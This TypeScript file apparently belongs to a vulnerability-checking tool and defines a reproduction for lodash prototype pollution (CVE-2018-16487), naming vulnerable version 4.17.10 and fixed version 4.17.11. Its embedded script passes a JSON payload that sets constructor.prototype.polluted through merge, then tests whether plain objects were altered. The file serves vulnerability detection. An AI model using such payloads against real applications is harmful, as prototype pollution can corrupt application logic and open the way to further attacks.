import { defineProof } from '../define-proof.ts';

/** Merges an object whose key is constructor and looks for its property on a plain object. */
export const lodashMerge = defineProof({
  name: 'lodash-merge',
  ids: ['CVE-2018-16487', 'GHSA-4xc9-xhrj-v574'],
  ecosystem: 'npm',
  package: 'lodash',
  kind: 'prototype_pollution',
  describes: 'Merges an object whose key is constructor and looks for its property on a plain object.',
  shownOn: { vulnerable: '4.17.10', fixed: '4.17.11' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject.merge({ a: 1 }, { b: { c: 2 } }).b.c === 2;
  try {
    subject.merge({}, JSON.parse('{"constructor": {"prototype": {"polluted": true}}}'));
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
